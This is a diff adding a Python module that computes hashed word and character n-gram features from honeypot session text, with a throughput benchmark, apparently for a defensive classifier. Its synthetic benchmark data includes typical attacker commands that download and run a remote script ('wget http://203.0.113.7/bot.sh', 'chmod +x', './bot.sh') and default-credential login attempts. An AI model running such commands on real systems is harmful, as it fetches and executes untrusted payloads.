@@ -0,0 +1,180 @@
+# text_hashing.py
+"""
+Hashed bag-of-tokens features for a session's command/message/password
+text (the session_text column).
+
+Instead of squashing a session into its single most common word, every
+lower-cased word and every character 3-/4-gram (within word boundaries)
+is hashed into one of HASH_FEATURES columns and counted. The result is a
+fixed-width scipy.sparse CSR matrix built in one pass over the texts;
+hashing needs no fitted vocabulary, so nothing but the width is stored
+with the model and unseen commands still land in meaningful columns.
+Honeypot sessions repeat the same commands and passwords, so each distinct
+word is hashed once per call, all of them together in numpy, and a
+session's row is its word counts times the words' token counts (one
+sparse product).
+
+Only numpy, pandas and scipy are needed, so the compact predictor's
+start-up stays free of scikit-learn.
+
+    python3 src/text_hashing.py bench --sessions 100000
+"""
+import argparse
+import time
+from array import array
+import tracemalloc
+from collections import Counter
+
+import numpy as np
+import pandas as pd
+import scipy.sparse as sp
+
+TEXT_COLUMN = "session_text"
+HASH_FEATURES = 1024
+NGRAMS = (3, 4)
+MAX_TOKEN_LEN = 40
+# a session's text is cut here (build_features_from_real / sessionizer)
+MAX_TEXT_CHARS = 4000
+
+
+# polynomial string hash base and per-token-kind salts, mixed with fmix32
+BASE = np.uint32(0x01000193)
+WORD_SALT = np.uint32(0x9E3779B9)
+NGRAM_SALT = np.uint32(0x7F4A7C15)
+
+
+def fmix32(h):
+    """MurmurHash3's 32-bit finalizer, vectorized over a uint32 array."""
+    h = h ^ (h >> np.uint32(16))
+    h = h * np.uint32(0x85EBCA6B)
+    h = h ^ (h >> np.uint32(13))
+    h = h * np.uint32(0xC2B2AE35)
+    return h ^ (h >> np.uint32(16))
+
+
+class TextHasher:
+    def __init__(self, n_features=HASH_FEATURES, ngram_range=NGRAMS):
+        self.n_features = n_features
+        self.ngram_range = ngram_range
+
+    def word_matrix(self, words):
+        """
+        CSR (len(words) x n_features) token counts: each word itself (when
+        shorter than MAX_TOKEN_LEN) and its character n-grams with the word
+        padded by spaces, as sklearn's char_wb analyzer makes them. All
+        hashes are computed with array arithmetic over the words' code points.
+        """
+        n_words = len(words)
+        if not n_words:
+            return sp.csr_matrix((0, self.n_features), dtype=np.float32)
+        lens = np.fromiter(map(len, words), dtype=np.int64, count=n_words) + 2
+        chars = np.frombuffer("".join(f" {w} " for w in words).encode("utf-32-le"), dtype=np.uint32)
+        start = np.cumsum(lens) - lens
+        wid = np.repeat(np.arange(n_words), lens)
+        k = np.arange(len(chars)) - start[wid]
+        lo, hi = self.ngram_range
+        # the n-gram loops index powers[hi - 1] even when every word is shorter
+        powers = np.cumprod(np.append(np.uint32(1), np.full(max(int(lens.max()), hi), BASE, dtype=np.uint32)))
+
+        # whole word: hash of the characters between the two pad spaces
+        inner = (k > 0) & (k < lens[wid] - 1)
+        terms = chars[inner] * powers[k[inner] - 1]
+        word_hash = np.add.reduceat(terms, np.cumsum(lens - 2) - (lens - 2))
+        keep = lens - 2 < MAX_TOKEN_LEN
+        rows = [np.flatnonzero(keep)]
+        hashes = [fmix32(word_hash[keep] ^ WORD_SALT)]
+
+        for n in range(lo, hi + 1):
+            pos = np.flatnonzero(k + n <= lens[wid])
+            h = np.zeros(len(pos), dtype=np.uint32)
+            for t in range(n):
+                h += chars[pos + t] * powers[t]
+            rows.append(wid[pos])
+            hashes.append(fmix32(h ^ (NGRAM_SALT + np.uint32(n))))
+        rows = np.concatenate(rows)
+        cols = np.concatenate(hashes) % np.uint32(self.n_features)
+        return sp.csr_matrix((np.ones(len(rows), dtype=np.float32), (rows, cols.astype(np.int32))),
+                             shape=(n_words, self.n_features))
+
+    def transform(self, texts):
+        """
+        Iterable of strings (missing -> empty) -> CSR float32 token counts,
+        n_features wide. Each distinct text and distinct word is hashed
+        once per call; nothing is kept between calls.
+        """
+        texts = pd.Series(list(texts), dtype=object)
+        codes, uniques = pd.factorize(texts.where(texts.map(lambda v: isinstance(v, str)), ""))
+        # word codes of every distinct text, in order, and their count per text
+        vocab, word, sizes = {}, array("l"), np.zeros(len(uniques), dtype=np.int64)
+        for i, doc in enumerate(uniques):
+            ws = doc.lower().split()
+            sizes[i] = len(ws)
+            word.extend(vocab.setdefault(w, len(vocab)) for w in ws)
+        counts = sp.csr_matrix((np.ones(len(word), dtype=np.float32),
+                                (np.repeat(np.arange(len(uniques)), sizes), np.frombuffer(word, dtype=np.int64))),
+                               shape=(len(uniques), len(vocab)))
+        X = (counts @ self.word_matrix(list(vocab))).astype(np.float32, copy=False)
+        return X if len(uniques) == len(codes) and (codes[1:] > codes[:-1]).all() else X[codes]
+
+
+def hstack(dense, hashed):
+    """Dense feature block followed by the hashed columns, as one CSR matrix."""
+    return sp.hstack([sp.csr_matrix(dense), hashed], format="csr", dtype=np.float32)
+
+
+def most_common_loop(texts):
+    # the per-word Counter proxy the hashed features replace
+    out = []
+    for t in texts:
+        words = [w.lower() for w in t.split() if 0 < len(w) < MAX_TOKEN_LEN]
+        common = Counter(words).most_common(1)
+        out.append(common[0][0] if common else "other")
+    return out
+
+
+def synthetic_texts(n, seed=42):
+    rng = np.random.default_rng(seed)
+    vocab = np.array(["CMD: uname -a", "CMD: cat /proc/cpuinfo", "CMD: wget http://203.0.113.7/bot.sh",
+                      "login attempt [root/1234] failed", "login attempt [admin/admin] failed",
+                      "CMD: chmod +x bot.sh", "CMD: ./bot.sh", "CMD: ls -la", "toor", "123456"], dtype=object)
+    lengths = rng.integers(1, 20, n)
+    picks = vocab[rng.integers(0, len(vocab), int(lengths.sum()))]
+    bounds = np.cumsum(lengths)[:-1]
+    return [" ".join(p) for p in np.split(picks, bounds)]
+
+
+def _measure(fn, texts):
+    tracemalloc.start()
+    t0 = time.perf_counter()
+    out = fn(texts)
+    dt = time.perf_counter() - t0
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    return out, dt, peak
+
+
+def bench(sizes, n_features=HASH_FEATURES):
+    hasher = TextHasher(n_features)
+    print(f"{'sessions':>10} {'path':<16} {'sessions/s':>12} {'peak MB':>9} {'result MB':>10}")
+    for n in sizes:
+        texts = synthetic_texts(n)
+        _, dt, peak = _measure(most_common_loop, texts)
+        print(f"{n:>10} {'Counter loop':<16} {n / dt:>12,.0f} {peak / 1e6:>9.1f} {'-':>10}")
+        X, dt, peak = _measure(hasher.transform, texts)
+        size = (X.data.nbytes + X.indices.nbytes + X.indptr.nbytes) / 1e6
+        print(f"{n:>10} {'hashed CSR':<16} {n / dt:>12,.0f} {peak / 1e6:>9.1f} {size:>10.1f}"
+              f"   ({X.nnz / n:.0f} non-zeros/session of {n_features})")
+
+
+def main():
+    p = argparse.ArgumentParser(description="Hashed session text features")
+    sub = p.add_subparsers(dest="cmd", required=True)
+    b = sub.add_parser("bench", help="throughput and memory vs the most-common-token Counter loop")
+    b.add_argument("--sessions", default="10000,100000", help="comma-separated session counts")
+    b.add_argument("--n-features", type=int, default=HASH_FEATURES)
+    args = p.parse_args()
+    bench([int(s) for s in args.sessions.split(",")], args.n_features)
+
+
+if __name__ == "__main__":
+    main()